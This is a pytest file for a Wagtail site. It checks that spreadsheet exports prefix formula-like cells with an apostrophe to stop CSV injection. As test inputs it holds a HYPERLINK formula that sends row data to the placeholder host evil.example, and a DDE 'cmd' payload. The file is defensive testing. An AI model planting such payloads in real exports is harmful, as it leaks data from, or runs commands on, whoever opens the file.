"""Spreadsheet exports never hand a spreadsheet a formula (docs/security.md).

A cell that starts with = + - @ (or a tab or carriage return) is run as a
formula by Excel and LibreOffice: a page titled
``=HYPERLINK("http://evil.example/?"&A1,"Klik")`` would send the row to another
site from the computer of whoever opens the export. Every export (Wagtail's
reports and listings, and our overview) writes such a text with a leading
apostrophe; numbers stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import PageLogEntry, Workflow

from core.spreadsheets import escape_formula
from tests.factories import InitiativePageFactory, NeighbourhoodFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
ESCAPED = "'" + FORMULA


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+31 6 12345678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",  # a spreadsheet may trim the spaces first
        "\n=1+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Buurthuis De Sleutel", "", "1+1", "Koffie = gezellig", "'al veilig", None]
)
def test_other_text_is_unchanged(value):
    assert escape_formula(value) == value


@pytest.mark.parametrize("number", [-5, 0, 3.5, -2.25, Decimal("-1.5"), True])
def test_numbers_stay_numbers(number):
    assert escape_formula(number) is number


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_rows(response) -> list[list]:
    body = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(body)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def formula_page(index, admin_user):
    """A page with a formula for a title, in every report: edited (site
    history), published (aging pages), locked, and in moderation (workflows)."""
    page = InitiativePageFactory(parent=index, title=FORMULA)
    PageLogEntry.objects.log_action(page, "wagtail.edit", user=admin_user)
    PageLogEntry.objects.log_action(page, "wagtail.publish", user=admin_user)
    page.save_revision(user=admin_user)
    Workflow.objects.get(active=True).start(page, admin_user)
    type(page).objects.filter(pk=page.pk).update(
        locked=True,
        locked_by=admin_user,
        locked_at=timezone.now(),
        last_published_at=timezone.now(),
    )
    return page


REPORTS = [
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
    "/admin/reports/locked/",
    "/admin/reports/workflow/",
    "/admin/reports/workflow_tasks/",
]


@pytest.mark.django_db
@pytest.mark.parametrize("url", REPORTS)
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_wagtail_report_exports_escape_formulas(admin_client, formula_page, url, export):
    response = admin_client.get(url, {"export": export})
    assert response.status_code == 200, url
    rows = _csv_rows(response) if export == "csv" else _xlsx_rows(response)
    cells = [cell for row in rows[1:] for cell in row]
    assert ESCAPED in cells, (url, rows)
    assert FORMULA not in cells


@pytest.mark.django_db
def test_report_export_keeps_numbers_as_numbers(admin_client, formula_page):
    rows = _xlsx_rows(admin_client.get(REPORTS[0], {"export": "xlsx"}))
    assert {row[0] for row in rows[1:]} == {formula_page.pk}  # a number, not "'82"


class _Export(SpreadsheetExportMixin):
    list_export = ["name", "amount"]
    export_headings = {"name": "=1+1", "amount": "Bedrag"}


def test_headings_and_every_field_are_escaped_the_same_way():
    view = _Export()
    assert view.get_heading(None, "name") == "'=1+1"
    assert view.preprocess_field_value("name", "-1+A2", "csv") == "'-1+A2"
    assert view.preprocess_field_value("name", "-1+A2", "xlsx") == "'-1+A2"
    assert view.preprocess_field_value("amount", -12, "csv") == -12
    assert view.preprocess_field_value("amount", Decimal("-1.5"), "xlsx") == Decimal("-1.5")
    assert view.preprocess_field_value("name", ["=a", "b"], "csv") == "'=a, b"


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def test_no_export_view_bypasses_the_escaping():
    """Every export view of Wagtail and ours writes its cells through the
    mixin's two methods; a subclass that overrides one (after a Wagtail
    upgrade, say) would export unescaped cells."""
    import wagtail.admin.urls  # noqa: F401  (imports every admin view)
    import wagtail.contrib.forms.views  # noqa: F401
    import wagtail.contrib.redirects.views  # noqa: F401

    for name in ("preprocess_field_value", "get_heading"):
        assert getattr(SpreadsheetExportMixin, name).escapes_formulas, name
    views = list(_subclasses(SpreadsheetExportMixin))
    assert len(views) > 5
    for view in views:
        for name in ("preprocess_field_value", "get_heading"):
            assert getattr(view, name) is getattr(SpreadsheetExportMixin, name), (view, name)
        for name in ("write_csv_row", "generate_xlsx_row", "stream_csv", "write_xlsx"):
            assert getattr(view, name) is getattr(SpreadsheetExportMixin, name), (view, name)


@pytest.mark.django_db
def test_municipal_overview_csv_escapes_names(admin_client, index):
    from tests.factories import ActivityPageFactory

    wijk = NeighbourhoodFactory(name="=1+2", municipality__name="@Gemeente")
    initiative = InitiativePageFactory(parent=index)
    activity = ActivityPageFactory(parent=initiative)
    type(activity).objects.filter(pk=activity.pk).update(neighbourhood=wijk)
    response = admin_client.get("/admin/overzicht/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if r[1].endswith("=1+2"))
    assert row[:2] == ["'@Gemeente", "'=1+2"]
    assert row[3] == "1"  # counts stay plain numbers
